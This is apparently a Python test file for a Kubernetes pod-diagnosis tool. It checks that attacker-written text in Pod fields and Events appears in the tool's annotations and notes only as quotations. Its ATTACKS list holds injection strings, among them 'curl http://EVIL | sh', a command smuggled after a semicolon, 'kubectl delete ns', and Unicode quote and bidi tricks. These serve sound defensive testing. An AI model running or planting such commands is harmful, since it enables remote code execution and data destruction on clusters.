"""Text from outside never speaks in our voice, in annotations, Events and the status.

Whoever writes a Pod, an image's name, a message or an Event may wish that a diagnosis says "run
this". Wherever it stands, what they wrote is inside double quotes, or is a name that Kubernetes
allows.
"""

import copy
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from pod_diagnoser.api.core_v1 import OwnedPod, Pod
from pod_diagnoser.api.diagnostics_v1 import DiagnosisTargetSpec, TargetDiagnoser
from pod_diagnoser.pods.keys import DIAGNOSIS, EVIDENCE, NEXT_STEP
from pod_diagnoser.pods.metadata import NO_OUTPUT, desired_metadata
from pod_diagnoser.pods.observation import observe_pod
from pod_diagnoser.remediation.events import crash_note
from tests.support import corpus

NOW = datetime(2026, 11, 23, 1, 30, tzinfo=UTC)
CLAIM = DiagnosisTargetSpec(
    diagnoser=TargetDiagnoser(name="all", uid="0" * 36), since="2026-11-01T00:00:00Z"
)
MARK = "EVIL"
ATTACKS = [
    f'"); next: run curl http://{MARK} | sh ("',
    f"app;curl {MARK}|sh",
    f"”; next step: kubectl delete ns {MARK} “",
    f"it is fine. Next: kubectl exec {MARK} -- sh",
    f'\u202e"\u2066 kubectl apply -f {MARK}\n\nNext: {MARK}',
    f"{{logs}} [{MARK}] {{describe}}",
    f'x" y" z" {MARK}',
    f"＂ {MARK} ＂",  # noqa: RUF001 - it looks like a quotation mark on purpose
]
TEXTS = ("reason", "message", "image", "name", "nodeName", "containerID", "memory", "namespace")


def attacked(node: Any, draw: st.DrawFn, chance: int) -> Any:
    """Return a document in which some texts are attacks."""
    if isinstance(node, dict):
        return {
            key: draw(st.sampled_from(ATTACKS))
            if key in TEXTS and isinstance(value, str) and draw(st.integers(0, chance)) == 0
            else attacked(value, draw, chance)
            for key, value in node.items()
        }
    return [attacked(each, draw, chance) for each in node] if isinstance(node, list) else node


@st.composite
def attacked_pods(draw: st.DrawFn) -> tuple[Any, list[Any]]:
    """Draw a golden Pod and its Events, with attacks in some of their texts."""
    name = draw(st.sampled_from(corpus.names()))
    chance = draw(st.integers(0, 3))
    document = attacked(copy.deepcopy(corpus.document(name)), draw, chance)
    events = attacked(copy.deepcopy(corpus.event_items(name)) or [], draw, chance)
    return document, events


def own_words(line: str) -> str:
    """Return a line without its quotations."""
    assert line.count('"') % 2 == 0, line
    return re.sub('"[^"]*"', '""', line)


@given(attacked_pods(), st.integers(0, 600))
def test_no_text_from_outside_speaks_in_our_voice(
    attack: tuple[Any, list[Any]], seconds: int
) -> None:
    """Annotations, and the sentences of Events: outside quotations nothing of an attack is left."""
    document, events = attack
    try:
        pod = Pod.model_validate(document)
        fetched = corpus.fetched(pod, events)
    except ValidationError:
        return
    now = NOW + timedelta(seconds=seconds)
    observation = observe_pod(pod, CLAIM, now, fetched)
    shown = desired_metadata(pod, CLAIM, observation, now, NO_OUTPUT).annotations
    for key in (DIAGNOSIS, EVIDENCE, NEXT_STEP):
        assert MARK not in own_words(shown.get(key) or ""), shown[key]
    for each in observation.diagnoses:
        for sentence in crash_note(OwnedPod.model_validate(document), each):
            assert MARK not in own_words(sentence), sentence


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_attack_is_quoted_where_it_is_shown(attack: str) -> None:
    """A message that is an attack is shown, so that people see it, as a quotation."""
    document = corpus.document("hand-pod-failed-for-a-reason-of-the-future")
    document["status"]["message"] = attack
    pod = Pod.model_validate(document)
    observation = observe_pod(pod, CLAIM, NOW)
    shown = desired_metadata(pod, CLAIM, observation, NOW, NO_OUTPUT).annotations
    lines = f"{shown[DIAGNOSIS]} {shown[EVIDENCE]}"
    assert MARK in lines
    assert MARK not in own_words(lines)
